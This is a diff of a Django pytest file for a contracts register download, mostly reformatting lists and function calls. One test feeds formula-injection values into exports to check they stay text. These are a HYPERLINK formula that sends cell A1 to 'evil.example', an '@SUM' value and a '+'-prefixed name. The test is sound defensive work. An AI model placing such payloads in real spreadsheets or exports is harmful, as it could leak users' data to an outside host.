@@ -18,10 +18,30 @@ pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("frozen_today")]
 
 
 REGISTER_HEADINGS = [
-    "Reference", "Title", "Type", "Service", "Team", "Buyer", "Provider", "Lead officer", "Status",
-    "Start date", "End of initial term", "Current end date", "Maximum extent date", "Terminated on",
-    "Options left", "Days to end", "Annual value", "Total value", "Funding source", "Funding detail",
-    "Light-touch regime", "Procurement route", "Decision on expiry", "OCID",
+    "Reference",
+    "Title",
+    "Type",
+    "Service",
+    "Team",
+    "Buyer",
+    "Provider",
+    "Lead officer",
+    "Status",
+    "Start date",
+    "End of initial term",
+    "Current end date",
+    "Maximum extent date",
+    "Terminated on",
+    "Options left",
+    "Days to end",
+    "Annual value",
+    "Total value",
+    "Funding source",
+    "Funding detail",
+    "Light-touch regime",
+    "Procurement route",
+    "Decision on expiry",
+    "OCID",
 ]
 
 
@@ -165,8 +185,13 @@ def test_another_teams_contracts_are_not_in_the_download(client, officer, refuge
 @pytest.mark.parametrize("name", ["register-csv", "register-xlsx"])
 def test_a_formula_in_a_title_arrives_as_text_not_a_formula(client, officer, team, name):
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
-    make_contract(reference="MK-EVIL", title=formula, team=team, funding_detail="@SUM(1+1)",
-                  provider=make_organisation(name="+44 20 7946 0000"))
+    make_contract(
+        reference="MK-EVIL",
+        title=formula,
+        team=team,
+        funding_detail="@SUM(1+1)",
+        provider=make_organisation(name="+44 20 7946 0000"),
+    )
     client.force_login(officer)
 
     if name.endswith("csv"):
@@ -211,7 +236,9 @@ def test_the_download_reads_the_same_number_of_queries_for_3_or_30_contracts(cli
 def test_each_pages_download_links_carry_its_filters_but_not_its_page_number(client, officer, team):
     client.force_login(officer)
 
-    register = client.get(reverse("contracts:register"), {"status": "planned", "q": "refuge", "page": "2"}).content.decode()
+    register = client.get(
+        reverse("contracts:register"), {"status": "planned", "q": "refuge", "page": "2"}
+    ).content.decode()
     dashboard = client.get(reverse("commissioning:dashboard"), {"team": team.pk, "mine": "on"}).content.decode()
     reminders = client.get(reverse("reminders:list"), {"show": "failed", "page": "3"}).content.decode()
 
